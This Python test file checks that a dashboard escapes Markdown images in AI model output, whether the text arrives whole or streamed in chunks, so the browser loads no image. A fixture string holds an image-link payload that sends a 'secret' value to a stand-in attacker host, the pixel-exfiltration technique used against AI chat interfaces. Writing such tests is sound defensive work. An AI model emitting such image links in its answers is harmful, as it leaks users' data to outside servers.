"""Model output shown as Markdown cannot make the browser load an image."""

from hypothesis import given
from hypothesis import strategies as st

from app.dashboard.safe_text import safe_markdown, safe_stream

EVIL = "Here: ![pixel](https://attacker.example/p.png?q=secret) and [a link](https://example.com)"


def test_images_are_escaped_links_and_text_kept():
    out = safe_markdown(EVIL)
    assert "![" not in out
    assert "!\\[pixel](https://attacker.example/p.png?q=secret)" in out
    assert "[a link](https://example.com)" in out


def test_stream_escapes_an_image_split_across_chunks():
    chunks = ["look ", "!", "[x](http://h/i.png)", " done!"]
    joined = "".join(safe_stream(chunks))
    assert joined == "look !\\[x](http://h/i.png) done!"


@given(st.lists(st.text(alphabet="![]ab ", max_size=6), max_size=12))
def test_stream_equals_escaping_the_whole_text(chunks):
    assert "".join(safe_stream(chunks)) == safe_markdown("".join(chunks))
